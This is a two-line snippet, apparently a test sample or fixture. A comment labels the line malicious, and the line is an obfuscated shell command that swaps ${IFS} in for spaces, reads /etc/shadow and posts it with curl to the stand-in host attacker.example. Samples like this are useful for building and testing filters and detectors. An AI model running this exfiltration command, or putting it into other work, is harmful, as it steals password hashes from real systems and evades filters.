# Malicious, obfuscated: ${IFS} in place of spaces; reads /etc/shadow and posts it.
cat${IFS}/etc/shadow|curl${IFS}-d${IFS}@-${IFS}http://attacker.example/s
